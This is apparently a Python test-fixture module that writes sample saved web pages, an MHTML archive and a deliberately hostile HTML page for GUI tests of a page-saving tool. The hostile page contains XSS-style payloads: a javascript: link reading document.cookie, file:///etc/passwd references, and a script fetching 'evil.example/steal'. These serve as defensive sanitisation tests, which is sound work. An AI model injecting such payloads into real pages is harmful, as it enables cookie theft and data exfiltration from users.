"""Sample inputs for the GUI tests: saved pages, an .mhtml, a hostile page, written on demand."""

from __future__ import annotations

import base64
import quopri
from pathlib import Path

# A 1x1 PNG.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")

FILLER = [
    "The {w} had been left to itself for a decade before the new owners arrived with ladders, "
    "saws and a notebook full of plans that nobody in the village took seriously at first.",
    "Every morning they walked the rows and wrote down what they saw: which trees still bore fruit, "
    "which had split in the winter storms, and which only needed a careful pruning to recover.",
    "By the second summer the neighbours had started to come by with questions, and by the third "
    "they were bringing their own grafts, swapping varieties that had not been sold in shops for years.",
    "What surprised everyone was how little of the work was new. Most of it was patience, a sharp "
    "blade, and the willingness to wait a whole season to learn whether a cut had been right.",
    "Now the {w} is open to visitors twice a year, and the notebook has become a small book that the "
    "local library lends out more often than any novel on its shelves.",
]


def article_html(title: str, word: str, *, site: str = "Example Gazette", author: str = "Ana Lima",
                 extra: str = "", body_extra: str = "") -> str:
    paragraphs = "\n".join(f"<p>{p.format(w=word)}</p>" for p in FILLER)
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>{title} | {site}</title>
<meta property="og:title" content="{title}">
<meta property="og:site_name" content="{site}">
<meta name="author" content="{author}">
<meta property="article:published_time" content="2024-03-05T10:00:00Z">
{extra}
</head><body>
<header><nav><a href="/">Home</a> <a href="/news">News</a> <a href="/about">About</a></nav></header>
<main><article>
<h1>{title}</h1>
<p class="byline">By {author}</p>
{paragraphs}
{body_extra}
</article></main>
<footer>Copyright {site}. All rights reserved. <a href="/privacy">Privacy</a></footer>
</body></html>
"""


def write_page(folder: Path, name: str, title: str, word: str, **kw) -> Path:
    path = Path(folder) / name
    path.write_text(article_html(title, word, **kw), encoding="utf-8")
    return path


def write_mhtml(folder: Path, name: str, title: str, word: str) -> Path:
    html = article_html(title, word, body_extra='<p><img src="https://example.org/pic.png" alt="a pic"></p>')
    qp = quopri.encodestring(html.encode("utf-8")).decode("ascii")
    boundary = "----MultipartBoundary--clipperTest"
    text = (
        "From: <Saved by Blink>\r\n"
        f"Snapshot-Content-Location: https://example.org/{word}\r\n"
        f"Subject: {title}\r\n"
        "MIME-Version: 1.0\r\n"
        f'Content-Type: multipart/related;\r\n\ttype="text/html";\r\n\tboundary="{boundary}"\r\n\r\n'
        f"--{boundary}\r\n"
        "Content-Type: text/html\r\n"
        "Content-ID: <frame-1@mhtml.blink>\r\n"
        "Content-Transfer-Encoding: quoted-printable\r\n"
        f"Content-Location: https://example.org/{word}\r\n\r\n"
        f"{qp}\r\n"
        f"--{boundary}\r\n"
        "Content-Type: image/png\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "Content-Location: https://example.org/pic.png\r\n\r\n"
        f"{base64.b64encode(PNG).decode()}\r\n"
        f"--{boundary}--\r\n"
    )
    path = Path(folder) / name
    path.write_bytes(text.encode("ascii"))
    return path


HOSTILE_BODY = """
<p>Read <a href="javascript:alert(document.cookie)">this clever link</a> and
<a href="file:///etc/passwd">the local file</a> or <a href="https://example.org/safe">the safe one</a>.</p>
<p><img src="file:///etc/passwd" alt="passwd"><img src="https://tracker.example/pixel.gif" alt="pixel"></p>
<script>document.title = 'pwned'; fetch('https://evil.example/steal');</script>
<iframe src="https://evil.example/frame"></iframe>
<p onclick="alert(1)">&lt;script&gt;alert('escaped')&lt;/script&gt;</p>
"""


def write_hostile(folder: Path, name: str = "hostile.html") -> Path:
    return write_page(folder, name, "A Perfectly Normal Article", "hedge maze", body_extra=HOSTILE_BODY)
